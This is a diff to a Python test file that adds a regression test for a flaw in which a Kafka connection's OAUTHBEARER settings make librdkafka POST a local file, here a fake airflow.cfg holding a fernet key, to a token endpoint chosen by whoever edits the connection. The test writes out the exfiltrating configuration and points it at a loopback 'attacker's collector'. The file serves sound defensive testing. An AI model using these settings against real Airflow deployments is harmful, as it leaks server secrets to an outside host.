@@ -5,7 +5,9 @@ from __future__ import annotations
 import json
 import os
 import uuid
+from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from sqlalchemy.engine import make_url
@@ -137,7 +139,7 @@ def test_the_masking_key_from_a_connection_travels_in_the_secrets_file_and_is_ke
     from tidemark.runs.report import secret_values
     from tidemark.spark.secrets import split_env
 
-    key = "a-long-masking-key-0123456789"
+    key = uuid.uuid4().hex + uuid.uuid4().hex
     monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_MASK_TEST", json.dumps({"conn_type": "generic", "password": key}))
     monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_MASK_EMPTY", json.dumps({"conn_type": "generic", "login": "x"}))
     env = masking_env("tidemark_mask_test")
@@ -217,3 +219,74 @@ def test_object_store_and_catalog_secrets_are_registered_with_airflows_masker(mo
     uri = iceberg_env("tidemark_ice_mask")["TIDEMARK_ICEBERG_CATALOG_URI"]
     shown = str(redact(f"token {token}; catalog {uri}; encoded {quote(password, safe='')}"))
     assert token not in shown and quote(password, safe="") not in shown and password not in shown
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[str, list[bytes]]]:
+    """A loopback HTTP listener: its token endpoint URL and the bodies POSTed to it (an attacker's collector)."""
+    import http.server
+    import threading
+
+    received: list[bytes] = []
+
+    class Collect(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            received.append(self.rfile.read(int(self.headers.get("Content-Length", 0))))
+            self.send_response(500)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Collect)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}/token", received
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+@pytest.mark.parametrize("allowed_by", [None, "env", "airflow"])
+def test_a_connection_cannot_post_a_local_file_to_an_address_it_chooses_unless_the_deployment_allows_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, listener: tuple[str, list[bytes]], allowed_by: str | None
+) -> None:
+    """An extra with ``sasl.oauthbearer.assertion.file`` and a token endpoint URL made librdkafka POST the whole file
+    there when a client started: whoever may edit the connection read ``airflow.cfg`` out of the api-server."""
+    import time
+
+    from tidemark.errors import ConfigError
+    from tidemark.kafka.adapter import KafkaAdapter
+    from tidemark.orchestration.dags import kafka_connection
+
+    url, received = listener
+    secret = tmp_path / "airflow.cfg"
+    secret.write_text(f"[core]\nfernet_key = {uuid.uuid4().hex}\n")
+    extra = {"bootstrap.servers": "127.0.0.1:9", "security.protocol": "SASL_PLAINTEXT",
+             "sasl.mechanism": "OAUTHBEARER", "sasl.oauthbearer.method": "oidc",
+             "sasl.oauthbearer.grant.type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
+             "sasl.oauthbearer.assertion.file": str(secret), "sasl.oauthbearer.token.endpoint.url": url}  # fmt: skip
+    monkeypatch.setenv("AIRFLOW_CONN_TIDEMARK_KAFKA_EXFIL", json.dumps({"conn_type": "kafka", "extra": extra}))
+    names = "sasl.oauthbearer.assertion.file,sasl.oauthbearer.token.endpoint.url"
+    if allowed_by == "env":
+        monkeypatch.setenv("TIDEMARK_ALLOWED_KAFKA_SETTINGS", names)
+    elif allowed_by == "airflow":
+        monkeypatch.setenv("AIRFLOW__TIDEMARK__ALLOWED_KAFKA_SETTINGS", names)
+    if allowed_by is None:
+        with pytest.raises(ConfigError) as refused:
+            KafkaAdapter(kafka_connection("tidemark_kafka_exfil"), timeout_s=1.0)  # as the view's lag does
+        message = str(refused.value)
+        assert "'tidemark_kafka_exfil'" in message and str(secret) not in message and url not in message
+        assert "'sasl.oauthbearer.assertion.file'" in message and "'sasl.oauthbearer.token.endpoint.url'" in message
+        time.sleep(1.0)
+        assert received == []  # the listener never heard of the file
+        return
+    # Allowed by the deployment: the probe is real (librdkafka posts the file as soon as a client starts).
+    from confluent_kafka import Producer
+
+    producer = Producer(kafka_connection("tidemark_kafka_exfil").client_config())
+    deadline = time.monotonic() + 15
+    while not received and time.monotonic() < deadline:
+        producer.poll(0.2)
+    assert received and secret.read_text().strip() in received[0].decode()
